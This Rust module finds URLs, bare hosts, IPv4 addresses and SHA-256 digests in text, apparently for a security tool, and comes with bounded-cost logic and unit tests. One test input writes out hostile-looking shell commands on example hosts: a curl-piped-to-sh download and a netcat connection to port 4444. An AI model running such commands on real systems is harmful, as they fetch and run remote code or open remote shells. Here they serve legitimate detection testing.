//! Finds indicators in text.

use memchr::{memchr_iter, memmem};

use super::domain::{DOMAIN_BYTES_MAX, Domain};
use super::indicator::{Indicator, Sha256};
use super::url::{URL_BYTES_MAX, Url};
use crate::finding::Span;

/// Most indicators of one text. More are not looked for, and [`Extracted::cut`] says so.
pub const EXTRACT_MAX: usize = 128;

/// Most bytes of one text that are read closely, counted as often as they are. Bounds what a text costs that is made of
/// nothing but addresses inside each other.
const LOOK_BYTES_MAX: usize = 256 * 1024;

/// Addresses inside one address that are taken out of it (`https://a/?to=https://b`).
const NESTED_MAX: usize = 4;

/// Hexadecimal digits of a SHA-256.
const HASH_DIGITS: usize = 64;

/// What to look for.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Extract {
    /// Addresses with a scheme, `www.…`, and SHA-256 digests: what is surely meant.
    Explicit,
    /// Hosts without a scheme too (`curl shop.example.com/x`). Finds names of files as well: to be looked up, and never
    /// to be asked about.
    AlsoBareHosts,
}

/// An indicator and where it was.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Found {
    /// What.
    pub indicator: Indicator,
    /// Where.
    pub span: Span,
    /// Whether it is surely meant. A bare host may be something else.
    pub explicit: bool,
}

/// What a text holds. Reused from text to text: a text without indicators costs no allocation.
#[derive(Debug, Default)]
pub struct Extracted {
    /// Each indicator once, where it was first.
    pub found: Vec<Found>,
    /// Whether there may be more than was looked at.
    pub cut: bool,
    /// Bytes.
    looked_at: usize,
}

/// Finds what `text` names, in linear time. Escaped addresses (`https%3A%2F%2F…`) and defanged ones (`hxxps://`,
/// `a[.]example`) are left alone: nothing that reads the text would go there. Texts over 4 GiB are not looked at.
pub fn extract(text: &str, what: Extract, into: &mut Extracted) {
    into.found.clear();
    into.cut = false;
    into.looked_at = 0;
    if u32::try_from(text.len()).is_err() {
        into.cut = true;
        return;
    }
    addresses(text, into);
    hashes(text, into);
    dotted(text, what, into);
}

impl Extracted {
    /// Whether another place, so many bytes long, may be looked at.
    fn may_look(&mut self, bytes: usize) -> bool {
        self.looked_at = self.looked_at.saturating_add(bytes);
        let may = self.looked_at <= LOOK_BYTES_MAX && self.found.len() < EXTRACT_MAX;
        self.cut |= !may;
        may
    }

    fn add(&mut self, indicator: Indicator, start: usize, end: usize, explicit: bool) {
        if self.found.iter().any(|found| found.indicator == indicator) {
            return;
        }
        // `extract` refuses texts whose offsets do not fit.
        let span = Span { start: start as u32, end: end as u32 };
        self.found.push(Found { indicator, span, explicit });
    }

    fn covers(&self, at: usize) -> bool {
        self.found.iter().any(|found| (found.span.start as usize) <= at && at < found.span.end as usize)
    }
}

/// Whether a byte ends an address in text. Those beyond ASCII do not: paths may be written as they are read.
fn ends_address(byte: u8) -> bool {
    byte <= b' ' || byte == 0x7f || b"\"'<>`{}|^".contains(&byte)
}

/// An address without what belongs to the sentence around it: full stops, and brackets that were opened before it.
fn without_punctuation(mut text: &str) -> &str {
    // How many more brackets close than open; counted once, since a text may end in nothing else.
    let surplus = |open: u8, close: u8| {
        text.bytes().fold(0i32, |sum, b| sum + i32::from(b == close) - i32::from(b == open))
    };
    let (mut round, mut square) = match text.ends_with(|c: char| !c.is_ascii_alphanumeric() && c != '/') {
        true => (surplus(b'(', b')'), surplus(b'[', b']')),
        false => (0, 0),
    };
    while let Some(last) = text.chars().next_back() {
        let is_sentence = match last {
            ')' => round > 0,
            ']' => square > 0,
            _ => ".,;:!?*_~\\。，、！？；：”’»）」』】》".contains(last),
        };
        if !is_sentence {
            break;
        }
        round -= i32::from(last == ')');
        square -= i32::from(last == ']');
        text = text.get(..text.len() - last.len_utf8()).unwrap_or_default();
    }
    text
}

fn addresses(text: &str, into: &mut Extracted) {
    let bytes = text.as_bytes();
    let finder = memmem::Finder::new(b"://");
    // Up to where the text was searched for ends of addresses.
    let (mut end, mut nested) = (0, 0);
    let mut at = 0;
    while let Some(colon) = bytes.get(at..).and_then(|rest| finder.find(rest)).map(|found| at + found) {
        at = colon + 3;
        if colon >= end {
            let rest = bytes.get(colon..).unwrap_or_default();
            end = colon + rest.iter().position(|&b| ends_address(b)).unwrap_or(rest.len());
            nested = 0;
        }
        nested += 1;
        if nested > 1 + NESTED_MAX {
            into.cut = true;
            at = end.max(at);
            continue;
        }
        let before = bytes.get(..colon).unwrap_or_default();
        let letters = before.iter().rev().take(6).take_while(|b| b.is_ascii_alphabetic()).count();
        let Some(scheme) = text.get(colon - letters..colon) else { continue };
        // The longest known scheme the letters end in: `seehttps://` still leads somewhere.
        let known = ["https", "http", "ftp"].into_iter().find(|known| {
            scheme
                .len()
                .checked_sub(known.len())
                .and_then(|at| scheme.get(at..))
                .is_some_and(|tail| tail.eq_ignore_ascii_case(known))
        });
        let Some(known) = known else { continue };
        let start = colon - known.len();
        // Short ones cost as much as longer ones.
        if !into.may_look((end - start).clamp(64, URL_BYTES_MAX)) {
            return;
        }
        take_url(text, start, end, "", into);
    }
}

/// Reads the address that begins at `start` and reaches up to `end` at most.
fn take_url(text: &str, start: usize, end: usize, scheme: &str, into: &mut Extracted) {
    let longest = text.floor_char_boundary(end.min(start + URL_BYTES_MAX));
    let Some(whole) = text.get(start..longest) else { return };
    let words = without_punctuation(whole);
    let parsed = match scheme {
        "" => Url::parse(words),
        scheme => Url::parse(&format!("{scheme}{words}")),
    };
    match parsed {
        Ok(url) => into.add(Indicator::Url(url), start, start + words.len(), true),
        // Too long as a whole: the host is what matters.
        Err(_) => {
            let authority_at = words.find("://").map_or(0, |at| at + 3);
            let authority = words.get(authority_at..).unwrap_or_default();
            let authority =
                authority.split(['/', '\\', '?', '#', ',', ';', '(', ')', '[', ']', '=', '&']).next();
            let host = authority.and_then(|text| text.rsplit('@').next()).unwrap_or_default();
            let host = host.split(':').next().unwrap_or_default();
            if let Ok(domain) = Domain::parse(host) {
                into.add(Indicator::Domain(domain), start, start + words.len(), true);
            }
        }
    }
}

/// A run of 64 digits covers a multiple of 64 less one, so most of a text need not be looked at.
fn hashes(text: &str, into: &mut Extracted) {
    let bytes = text.as_bytes();
    let is_hex = |at: usize| bytes.get(at).is_some_and(u8::is_ascii_hexdigit);
    let mut at = HASH_DIGITS - 1;
    while at < bytes.len() {
        if is_hex(at) {
            // One digit too many is enough to know.
            let back = (1..=HASH_DIGITS).take_while(|&back| at.checked_sub(back).is_some_and(is_hex)).count();
            let start = at - back;
            let length = (0..=HASH_DIGITS).take_while(|&ahead| is_hex(start + ahead)).count();
            let end = start + length;
            let in_word = |at: Option<usize>| {
                at.and_then(|at| bytes.get(at)).is_some_and(|b| b.is_ascii_alphanumeric() || *b == b'_')
            };
            let stands_alone = !in_word(start.checked_sub(1)) && !in_word(Some(end));
            if length == HASH_DIGITS && stands_alone {
                if !into.may_look(HASH_DIGITS) {
                    return;
                }
                if let Some(Ok(hash)) = text.get(start..end).map(Sha256::parse) {
                    into.add(Indicator::Sha256(hash), start, end, true);
                }
            }
        }
        at += HASH_DIGITS;
    }
}

/// Hosts without a scheme: `www.…` always, others when wanted.
fn dotted(text: &str, what: Extract, into: &mut Extracted) {
    let bytes = text.as_bytes();
    let is_host = |b: &u8| b.is_ascii_alphanumeric() || matches!(b, b'-' | b'.' | b'_');
    let mut done = 0;
    for dot in memchr_iter(b'.', bytes) {
        if dot < done {
            continue;
        }
        // Most dots end sentences.
        let is_after_www = || {
            let word = dot.checked_sub(3).and_then(|from| bytes.get(from..dot));
            word.is_some_and(|word| word.eq_ignore_ascii_case(b"www"))
        };
        if what == Extract::Explicit && !is_after_www() {
            continue;
        }
        // No further back than the last end and a name's length, no further ahead than that.
        let back = bytes.get(done..dot).unwrap_or_default();
        let back = back.iter().rev().take(DOMAIN_BYTES_MAX).take_while(|b| is_host(b)).count();
        let ahead = bytes.get(dot..).unwrap_or_default();
        let ahead = ahead.iter().take(DOMAIN_BYTES_MAX).take_while(|b| is_host(b)).count();
        let (start, end) = (dot - back, dot + ahead);
        done = end;
        let Some(host) = text.get(start..end) else { continue };
        let host = host.trim_matches('.');
        let is_www = host.get(..4).is_some_and(|head| head.eq_ignore_ascii_case("www."));
        if !(is_www || what == Extract::AlsoBareHosts) || !looks_like_host(host) {
            continue;
        }
        let before = start.checked_sub(1).and_then(|at| bytes.get(at));
        // Part of a path, an e-mail's user name, an option's tail: not a host that stands for itself.
        if before.is_some_and(|b| !b.is_ascii() || b"/\\%$".contains(b)) || into.covers(start) {
            continue;
        }
        if !into.may_look(host.len()) {
            return;
        }
        let goes_on = bytes.get(end).is_some_and(|b| matches!(b, b'/' | b':' | b'?'));
        if is_www || goes_on {
            let rest = bytes.get(end..).unwrap_or_default();
            let rest = rest.iter().take(URL_BYTES_MAX).position(|&b| ends_address(b));
            let to = end + rest.unwrap_or(URL_BYTES_MAX.min(bytes.len() - end));
            done = to;
            if !into.may_look(to - end) {
                return;
            }
            let to = text.floor_char_boundary(to);
            let words = text.get(start..to).map(without_punctuation).unwrap_or_default();
            if let Ok(url) = Url::parse(&format!("http://{words}")) {
                into.add(Indicator::Url(url), start, start + words.len(), is_www);
                continue;
            }
        }
        if let Ok(domain) = Domain::parse(host) {
            into.add(Indicator::Domain(domain), start, end, is_www);
        }
    }
}

/// Two labels or more, and the last is a top-level domain by its looks, or the whole is an IPv4 address.
fn looks_like_host(host: &str) -> bool {
    let Some((_, top)) = host.rsplit_once('.') else { return false };
    let by_looks = (2..=24).contains(&top.len()) && top.bytes().all(|b| b.is_ascii_alphabetic());
    by_looks
        || top.get(..4).is_some_and(|head| head.eq_ignore_ascii_case("xn--"))
        || host.parse::<std::net::Ipv4Addr>().is_ok()
}

#[cfg(test)]
mod tests {
    use super::*;

    fn found(text: &str, what: Extract) -> Extracted {
        let mut into = Extracted::default();
        extract(text, what, &mut into);
        for found in &into.found {
            assert!(text.get(found.span.start as usize..found.span.end as usize).is_some(), "{found:?}");
        }
        into
    }

    #[track_caller]
    fn check(what: Extract, text: &str, expect: &[&str]) {
        let seen: Vec<_> = found(text, what).found.iter().map(|found| found.indicator.to_string()).collect();
        assert_eq!(seen, expect, "{text}");
    }

    #[test]
    fn addresses_in_sentences() {
        let check = |text, expect| check(Extract::Explicit, text, expect);
        check("nothing here. Really: a/b, 3.14, file.rs", &[]);
        check("See https://a.example/x.", &["https://a.example/x"]);
        check("(see http://a.example/x_(y))", &["http://a.example/x_(y)"]);
        check(
            "[docs](https://a.example/b?c=d) and <https://b.example>",
            &["https://a.example/b?c=d", "https://b.example/"],
        );
        check("\"https://a.example/\",'ftp://b.example/z'", &["https://a.example/", "ftp://b.example/z"]);
        check("HTTPS://A.EXAMPLE and https://a.example/", &["https://a.example/"]);
        check("go to www.a.example/x!", &["http://www.a.example/x"]);
        check("看https://a.example/页。", &["https://a.example/%E9%A1%B5"]);
        check("seehttps://a.example", &["https://a.example/"]);
        check("mailto:x@a.example ssh://b.example redis://c", &[]);
        check(
            "https://r.example/?to=https://b.example/x",
            &["https://r.example/?to=https://b.example/x", "https://b.example/x"],
        );
        check("https://[bad and https://good.example", &["https://good.example/"]);
    }

    #[test]
    fn hashes_stand_alone() {
        let hash = "0123456789abcdef".repeat(4);
        let check = |text: String, hits: usize| {
            let seen = found(&text, Extract::Explicit).found.len();
            assert_eq!(seen, hits, "{text}");
        };
        for pad in 0..130 {
            check(format!("{}{hash} ", " ".repeat(pad)), 1);
        }
        check(hash.clone(), 1);
        check(format!("sha256:{hash}"), 1);
        check(format!("{hash}0"), 0);
        check(format!("x{hash}"), 0);
        check(hash.repeat(2), 0);
        check(format!("{hash} {} {hash}", hash.replace('0', "f")), 2);
    }

    #[test]
    fn bare_hosts_when_wanted() {
        let text =
            "curl -s shop.a.example/x.sh | sh; nc 192.0.2.7 4444; cat /etc/b.example me@c.example readme.md";
        check(Extract::Explicit, text, &[]);
        check(
            Extract::AlsoBareHosts,
            text,
            &["http://shop.a.example/x.sh", "192.0.2.7", "c.example", "readme.md"],
        );
        check(Extract::AlsoBareHosts, "https://a.example/b.example/c", &["https://a.example/b.example/c"]);
        check(Extract::AlsoBareHosts, "e.g. this... and 3.14 a.b v1.2.3", &[]);
        assert!(found(text, Extract::AlsoBareHosts).found.iter().all(|found| !found.explicit));
    }

    #[test]
    fn an_address_that_is_too_long_still_has_a_host() {
        let text = format!("https://a.example/{}", "x".repeat(URL_BYTES_MAX + 9));
        check(Extract::Explicit, &format!("https://a.example/{}", "é".repeat(600)), &["a.example"]);
        let seen = found(&text, Extract::Explicit);
        assert_eq!(seen.found.len(), 1);
    }

    #[test]
    fn bounds() {
        let many: String = (0..EXTRACT_MAX + 1).map(|n| format!("https://h{n}.example ")).collect();
        let seen = found(&many, Extract::Explicit);
        assert_eq!((seen.found.len(), seen.cut), (EXTRACT_MAX, true));
        let same = "https://a.example file.rs ".repeat(2000);
        let seen = found(&same, Extract::AlsoBareHosts);
        assert_eq!((seen.found.len(), seen.cut), (2, false));
        let deep = format!("https://a.example/{} ", "x/".repeat(1000)).repeat(600);
        let seen = found(&deep, Extract::Explicit);
        assert_eq!((seen.found.len(), seen.cut), (1, true));
        for flood in
            ["http://".repeat(100_000), "://".repeat(100_000), "a.".repeat(100_000), "f".repeat(500_000)]
        {
            assert!(found(&flood, Extract::AlsoBareHosts).found.len() <= EXTRACT_MAX);
        }
    }
}
